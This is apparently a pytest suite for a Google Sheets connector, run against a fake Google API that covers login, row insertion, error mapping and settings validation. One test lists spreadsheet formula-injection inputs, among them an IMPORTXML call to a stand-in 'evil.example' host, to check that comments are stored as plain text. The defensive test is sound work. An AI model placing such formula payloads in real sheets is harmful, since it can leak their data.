"""Google Sheets, against a stand-in that checks assertions, and whose batches happen whole or not at all."""

import json
from base64 import urlsafe_b64decode
from collections.abc import Iterator
from copy import deepcopy
from dataclasses import replace
from typing import Any

import pytest
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives.asymmetric import ed25519, rsa
from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

from app.domain.connectors import google_sheets
from app.domain.connectors.protocol import Access, Connector
from app.domain.connectors.settings import ConnectorSettingsUnusable
from app.domain.webhooks.attempts import Failure
from tests.outbound.connectors.service import Asked, Said, Service, at
from tests.outbound.connectors.stories import MOVED, STORY, Memory, a_connector, take, tell

NOON = "Sun, 22 Nov 2026 12:00:00 GMT"
NOON_SECONDS = 1_795_348_800
KEY = rsa.generate_private_key(public_exponent=65_537, key_size=2_048)
OTHER_KEY = rsa.generate_private_key(public_exponent=65_537, key_size=2_048)


def pem(key: rsa.RSAPrivateKey | ed25519.Ed25519PrivateKey) -> str:
    return key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()).decode()


def key_file(token_uri: str, key: rsa.RSAPrivateKey = KEY) -> str:
    account = {
        "type": "service_account", "client_email": "nps@acme.iam.gserviceaccount.com",
        "private_key": pem(key), "token_uri": token_uri,
    }  # fmt: skip
    return json.dumps(account, indent=2)


def connector(service: Service, *, key: rsa.RSAPrivateKey = KEY, sheet_id: str | int = 0) -> Connector:
    account = key_file(f"{service.url}/token", key)
    return a_connector(
        "google_sheets", service_account=account, spreadsheet_id="1AbC_d-E", sheet_id=sheet_id, base_url=service.url
    )


class FakeGoogle(Service):
    """One sheet of a spreadsheet, and the log-in before it."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[list[Any]] = []
        self.height = 1_000_000
        self.token = "ya29.first"

    def reply(self, asked: Asked) -> Said:
        if asked.path == "/token":
            return self._log_in(asked)
        if asked.headers.get("authorization") != f"Bearer {self.token}":
            return trouble(401, "UNAUTHENTICATED")
        place, _, method = asked.path.rpartition(":")
        if not place.startswith("/v4/spreadsheets/1AbC_d-E"):
            return trouble(404, "NOT_FOUND")
        return self._change(asked.json["requests"]) if method == "batchUpdate" else self._ids(asked.json)

    def _log_in(self, asked: Asked) -> Said:
        if asked.method == "GET":
            return Said(404, b"<html>", {"date": NOON})
        assert asked.form["grant_type"] == "urn:ietf:params:oauth:grant-type:jwt-bearer"
        signed, _, signature = asked.form["assertion"].rpartition(".")
        try:
            KEY.public_key().verify(decoded(signature), signed.encode(), PKCS1v15(), SHA256())
        except InvalidSignature:
            return Said.of(400, {"error": "invalid_grant", "error_description": "Invalid JWT Signature."})
        header, claims = (json.loads(decoded(part)) for part in signed.split("."))
        assert header == {"alg": "RS256", "typ": "JWT"}
        assert claims == {
            "iss": "nps@acme.iam.gserviceaccount.com", "aud": f"{self.url}/token",
            "scope": "https://www.googleapis.com/auth/spreadsheets", "iat": NOON_SECONDS, "exp": NOON_SECONDS + 3_600,
        }  # fmt: skip
        return Said.of(200, {"access_token": self.token, "expires_in": 3_599, "token_type": "Bearer"})

    def _ids(self, asked: Any) -> Said:
        place = asked["dataFilters"][0]["gridRange"]
        assert (place["startColumnIndex"], place["endColumnIndex"]) == (0, 1)
        if place["sheetId"] != 0 or place["startRowIndex"] >= self.height:
            return trouble(400, "INVALID_ARGUMENT")
        ids = [row[0] for row in self.rows[place["startRowIndex"] : place["endRowIndex"]]]
        values = {"values": [ids]} if ids else {}
        return Said.of(200, {"spreadsheetId": "1AbC_d-E", "valueRanges": [{"valueRange": values}]})

    def _change(self, requests: list[Any]) -> Said:
        rows = deepcopy(self.rows)
        for request in requests:
            if "insertDimension" in request:
                start = request["insertDimension"]["range"]["startIndex"]
                rows += [[""] * 10 for _ in range(len(rows), start)]
                rows.insert(start, [""] * 10)
                continue
            update = request["updateCells"]
            assert update["fields"] == "userEnteredValue"
            rows[update["start"]["rowIndex"]] = [cell_of(cell) for cell in update["rows"][0]["values"]]
        self.rows = rows
        return Said.of(200, {"spreadsheetId": "1AbC_d-E"})


def cell_of(cell: dict[str, Any]) -> Any:
    value = cell.get("userEnteredValue", {})
    assert set(value) <= {"stringValue", "numberValue"}
    return next(iter(value.values()), None)


def decoded(part: str) -> bytes:
    return urlsafe_b64decode(part + "=" * (-len(part) % 4))


def trouble(status: int, name: str) -> Said:
    return Said.of(status, {"error": {"code": status, "status": name, "message": "no"}})


def others(count: int) -> Iterator[list[Any]]:
    return ([f"resp_{number:032}"] for number in range(1_000_000, 1_000_000 + count))


async def test_an_answer_is_one_row_whatever_becomes_of_it() -> None:
    memory = Memory()
    async with at(FakeGoogle()) as service:
        assert isinstance(service, FakeGoogle)
        for story in (STORY, STORY, replace(MOVED, comment=None)):
            assert (await tell(connector(service), story, memory=memory)).failure is None
        heading, row = service.rows
    assert heading[:5] == ["Response ID", "Answered at", "Score", "Band", "Comment"]
    assert row == [
        STORY.response_id, "2026-11-22T10:15:00.000000Z", 9, "promoter", None, "Ada", "ada@example.com", "Acme & Sons",
        "After a purchase", None,
    ]  # fmt: skip


async def test_the_newest_is_on_top_and_headings_are_left_alone() -> None:
    async with at(FakeGoogle()) as service:
        assert isinstance(service, FakeGoogle)
        service.rows = [["Antwort"], ["older"]]
        await tell(connector(service))
        await tell(connector(service), replace(STORY, response_id="resp_2"))
        assert [row[0] for row in service.rows] == ["Antwort", "resp_2", STORY.response_id, "older"]


async def test_a_lost_reply_makes_no_second_row() -> None:
    memory = Memory()
    async with at(FakeGoogle()) as service:
        assert isinstance(service, FakeGoogle)
        await tell(connector(service))
        assert (await tell(connector(service), memory=memory)).failure is None
        assert len(service.rows) == 2


async def test_a_row_is_found_wherever_people_moved_it() -> None:
    memory = Memory()
    async with at(FakeGoogle()) as service:
        assert isinstance(service, FakeGoogle)
        await tell(connector(service), memory=memory)
        service.rows = [*others(11_000), service.rows[1], *others(5)]
        assert (await tell(connector(service), MOVED, memory=memory)).failure is None
        assert service.rows[11_000][2] == 9
        assert len(service.rows) == 11_006


@pytest.mark.parametrize("height", [5_000, 10_000])
async def test_a_row_that_somebody_deleted_is_made_anew(height: int) -> None:
    memory = Memory()
    async with at(FakeGoogle()) as service:
        assert isinstance(service, FakeGoogle)
        await tell(connector(service), memory=memory)
        service.rows, service.height = list(others(height)), height
        assert (await tell(connector(service), MOVED, memory=memory)).failure is None
        assert (service.rows[1][0], len(service.rows)) == (STORY.response_id, height + 1)


@pytest.mark.parametrize("comment", ["=1+1", "+49 30 1234", "@SUM(A1)", "-1", '=IMPORTXML("https://evil.example")'])
async def test_no_comment_becomes_a_formula(comment: str) -> None:
    async with at(FakeGoogle()) as service:
        await tell(connector(service), replace(STORY, comment=comment))
        cells = service.bodies[-1]["requests"][1]["updateCells"]["rows"][0]["values"]
    assert cells[4] == {"userEnteredValue": {"stringValue": comment}}


async def test_a_long_comment_fits_into_a_cell() -> None:
    async with at(FakeGoogle()) as service:
        assert isinstance(service, FakeGoogle)
        await tell(connector(service), replace(STORY, comment="💣" * 60_000))
        assert len(service.rows[1][4]) == google_sheets.TEXT


async def test_an_access_that_ended_is_refused_as_such() -> None:
    memory = Memory()
    async with at(FakeGoogle()) as service:
        assert isinstance(service, FakeGoogle)
        await tell(connector(service), memory=memory)
        assert memory.access == Access("ya29.first", service.url, 3_299)
        service.token = "ya29.second"
        assert (await tell(connector(service), MOVED, memory=memory)).failure is Failure.UNAUTHORIZED


@pytest.mark.parametrize(("key", "failure"), [(KEY, None), (OTHER_KEY, Failure.UNAUTHORIZED)], ids=["ours", "another"])
async def test_refused_credentials_are_noticed_before_the_first_answer(
    key: rsa.RSAPrivateKey, failure: Failure | None
) -> None:
    async with at(FakeGoogle()) as service:
        assert isinstance(service, FakeGoogle)
        checking = connector(service, key=key).check()
        assert checking is not None
        assert (await take(checking)).failure is failure
        assert service.rows == []


@pytest.mark.parametrize("said", [Said(404), Said(404, headers={"date": "tomorrow"})])
async def test_without_a_time_nobody_logs_in(said: Said) -> None:
    async with at(FakeGoogle()) as service:
        service.troubles = [said]
        assert (await tell(connector(service))).failure is Failure.ERROR_IN_BODY
        assert len(service.asked) == 1


@pytest.mark.parametrize("step", [1, 2, 3])
@pytest.mark.parametrize("body", [b"", b"<html>", b"{}", b"[[]]", b'{"access_token": "a b", "spreadsheetId": []}'])
async def test_a_reply_that_cannot_be_read_leaves_nothing_false_behind(body: bytes, step: int) -> None:
    memory = Memory()
    async with at(FakeGoogle()) as service:
        assert isinstance(service, FakeGoogle)
        service.troubles = [None] * step + [Said(200, body)]
        assert (await tell(connector(service), memory=memory)).failure is Failure.ERROR_IN_BODY
        assert (memory.made, service.rows) == ({}, [])


@pytest.mark.parametrize(
    ("said", "failure", "wait"),
    [
        (trouble(429, "RESOURCE_EXHAUSTED"), Failure.BAD_STATUS, 60),
        (trouble(403, "RESOURCE_EXHAUSTED"), Failure.BAD_STATUS, 60),
        (trouble(403, "PERMISSION_DENIED"), Failure.UNAUTHORIZED, None),
        (trouble(404, "NOT_FOUND"), Failure.NOT_THERE, None),
        (trouble(400, "INVALID_ARGUMENT"), Failure.REJECTED, None),
        (trouble(503, "UNAVAILABLE"), Failure.BAD_STATUS, None),
    ],
)
@pytest.mark.parametrize("step", [2, 3])
async def test_what_the_service_says_is_understood(said: Said, failure: Failure, wait: float | None, step: int) -> None:
    memory = Memory()
    async with at(FakeGoogle()) as service:
        service.troubles = [None] * step + [said]
        outcome = await tell(connector(service), memory=memory)
    assert (outcome.failure, outcome.retry_after_seconds, memory.made) == (failure, wait, {})


@pytest.mark.parametrize(
    "said",
    [
        "", "{}", "[]", "[" * 9_000, "x" * 20_000, key_file("nowhere"), key_file("ftp://x.example"),
        key_file("https://x.example").replace("BEGIN", "BEGUN"),
        json.dumps({"client_email": "a", "private_key": pem(ed25519.Ed25519PrivateKey.generate()), "token_uri": "https://x.example"}),
    ],
    ids=lambda said: said[:9],
)  # fmt: skip
def test_what_is_no_key_file_is_refused_without_repeating_it(said: str) -> None:
    with pytest.raises(ConnectorSettingsUnusable) as refused:
        a_connector("google_sheets", service_account=said, spreadsheet_id="1")
    assert refused.value.pointer == "/settings/service_account"
    assert "PRIVATE" not in str(refused.value)


@pytest.mark.parametrize(
    ("said", "kept"), [(7, "7"), ("0", "0"), (True, None), ("-1", None), ("٣", None), ("1 ", None)]
)
def test_a_sheet_is_a_number(said: Any, kept: str | None) -> None:
    settings = {"service_account": key_file("https://x.example"), "spreadsheet_id": "1", "sheet_id": said}
    if kept is None:
        with pytest.raises(ConnectorSettingsUnusable):
            a_connector("google_sheets", **settings)
    else:
        made = a_connector("google_sheets", **settings)
        assert isinstance(made, google_sheets.GoogleSheets)
        assert made.sheet_id == kept
